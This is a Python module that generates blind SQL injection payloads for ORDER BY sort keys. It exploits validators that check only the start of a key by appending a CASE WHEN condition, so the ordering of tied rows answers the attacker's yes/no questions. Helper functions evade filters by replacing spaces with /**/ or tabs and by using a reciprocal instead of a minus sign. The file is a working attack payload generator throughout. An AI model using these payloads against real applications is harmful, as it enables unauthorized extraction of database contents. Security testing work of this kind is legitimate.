"""ORDER BY keys led by a real column, for sort keys checked by their beginning only.

Code that inlines a sort key after checking only how it begins (a pattern with no end anchor
such as ``/^i\\.[a-z_]+/`` or ``re.match(r"[a-z_]+")``, ``strings.HasPrefix``, ``startsWith`` an
allowed column, an allowlist test of the part before the first comma or space) passes
``i.issued_on,(CASE WHEN <condition> THEN ... END)``. Led by a column with ties, the second key
decides the order within them, so the order answers the attacker's yes/no question.
Standard library only; the oracle expressions themselves are each seed's (its SQL dialect).
"""

from __future__ import annotations

from collections.abc import Iterable

__all__ = ["column_led", "column_led_pairs", "reversing", "spelled"]

# Between the column and the oracle: a comma (for an allowlist of the part before the first
# comma), a space or a tab before it (of the part before the first space or white space).
_SEPARATORS = {",": (" ", "/**/", "\t"), " ,": (" ",), "\t,": ("\t",)}


def spelled(expression: str, filler: str) -> str:
    """``expression`` with ``filler`` for each of its spaces (/**/ or a tab: past deny-lists of spaces)."""
    return expression.replace(" ", filler)


def reversing(condition: str, row_id: str = "i.id") -> str:
    """A second sort key that orders rows of equal first key by ``row_id`` one way when ``condition``
    holds and the other way when not, with no minus sign (a reciprocal), for deny-lists of '-'."""
    return f"(CASE WHEN {condition} THEN {row_id} ELSE 1000000000/{row_id} END)"


def _shapes(columns: Iterable[str], oracle: str) -> list[str]:
    return [f"{column}{separator}{spelled(oracle, filler)}" for column in columns
            for separator, fillers in _SEPARATORS.items() for filler in fillers]


def column_led(columns: Iterable[str], oracle: str) -> list[str]:
    """Sort keys made of each of ``columns`` (as the application names them: with its table
    alias, and bare) followed by ``oracle``, a sort expression written with spaces: after a comma
    (with spaces, /**/ or tabs), after a space and a comma, after a tab and a comma (with tabs)."""
    return list(dict.fromkeys(_shapes(columns, oracle)))


def column_led_pairs(columns: Iterable[str], true: str, false: str) -> list[tuple[str, str]]:
    """(true, false) sort keys: the shapes of ``column_led`` for a true and for a false condition."""
    columns = list(columns)
    return list(dict.fromkeys(zip(_shapes(columns, true), _shapes(columns, false), strict=True)))
